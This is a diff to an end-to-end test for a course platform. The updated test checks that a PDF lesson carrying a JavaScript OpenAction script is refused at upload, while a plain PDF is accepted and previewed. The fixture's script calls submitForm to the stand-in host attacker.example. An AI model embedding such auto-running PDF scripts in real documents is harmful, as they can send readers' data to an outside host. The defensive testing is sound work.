@@ -4,16 +4,16 @@ import { expect, test, uniqueAccount } from '../support/fixtures';
 import { expectNoHorizontalOverflow, SCREENSHOTS } from '../support/page-checks';
 
 /**
- * A one-page PDF: a blue square, and an OpenAction script that would show a dialog if anything ran it.
+ * A one-page PDF: a blue square, and (`script`) an OpenAction script that would show a dialog if anything ran it.
  * Offsets in the cross-reference table are computed, so the file is valid for any reader.
  */
-function pdfWithScript(): Buffer {
+function pdfWithScript(script = true): Buffer {
   const content = '0 0 1 rg 20 20 160 160 re f';
   const objects = [
-    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
+    `<< /Type /Catalog /Pages 2 0 R${script ? ' /OpenAction 4 0 R' : ''} >>`,
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 5 0 R >>',
-    '<< /S /JavaScript /JS (app.alert\\("pdf script ran"\\); this.submitForm\\("https://attacker.example/"\\);) >>',
+    script ? '<< /S /JavaScript /JS (app.alert\\("pdf script ran"\\); this.submitForm\\("https://attacker.example/"\\);) >>' : '<< >>',
     `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
   ];
   let body = '%PDF-1.4\n';
@@ -48,7 +48,7 @@ async function expectFirstPagePainted(page: Page) {
 }
 
 test.describe('a PDF lesson (Arabic)', () => {
-  test('shows its first page in the teacher’s preview and to a student, and never runs the PDF’s script', async ({ page }) => {
+  test('refuses a PDF with a script, and shows a plain one’s first page in the teacher’s preview and to a student', async ({ page }) => {
     const dialogs: string[] = [];
     page.on('dialog', (d) => {
       dialogs.push(d.message());
@@ -59,10 +59,16 @@ test.describe('a PDF lesson (Arabic)', () => {
     const course = await call(page, 'post', '/api/courses/teacher/courses', { title: 'دورة الملخصات', kind: 'regular' });
     const section = await call(page, 'post', `/api/courses/teacher/courses/${course.id}/sections`, { title: 'الملخصات' });
     const lesson = await call(page, 'post', `/api/courses/teacher/courses/${course.id}/lessons`, { sectionId: section.id, title: 'ملخص الدرس الأول', type: 'file' });
-    const uploaded = await page.request.put(`/api/courses/teacher/uploads/lessons/${lesson.id}`, {
-      data: pdfWithScript(),
-      headers: { origin: ORIGIN, 'content-type': 'application/pdf', 'x-file-name': encodeURIComponent('ملخص.pdf') },
-    });
+    const send = (data: Buffer) =>
+      page.request.put(`/api/courses/teacher/uploads/lessons/${lesson.id}`, {
+        data,
+        headers: { origin: ORIGIN, 'content-type': 'application/pdf', 'x-file-name': encodeURIComponent('ملخص.pdf') },
+      });
+    // A PDF with a script never reaches a student (issue 23, decision 109): refused at upload.
+    const scripted = await send(pdfWithScript());
+    expect(scripted.status()).toBe(415);
+    expect(((await scripted.json()) as { error: { code: string } }).error.code).toBe('FILE_TYPE_NOT_ALLOWED');
+    const uploaded = await send(pdfWithScript(false));
     expect(uploaded.ok(), await uploaded.text()).toBe(true);
     await call(page, 'put', `/api/courses/teacher/courses/${course.id}/plans`, { plans: [{ type: 'free', priceDzd: 0 }] });
     await call(page, 'patch', `/api/courses/teacher/courses/${course.id}`, { status: 'published' });
